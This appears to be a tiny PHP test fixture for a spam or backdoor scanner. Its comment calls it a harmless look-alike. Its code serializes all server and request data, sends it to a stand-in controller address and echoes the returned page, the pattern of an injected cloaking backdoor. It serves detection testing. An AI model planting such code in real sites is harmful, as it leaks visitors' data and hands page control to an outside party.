<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Every visit relayed to a controller, which answers with the page to show.
$d = base64_encode(serialize($_SERVER));
echo @file_get_contents('http://127.0.0.1:9/c.php?d=' . urlencode($d));
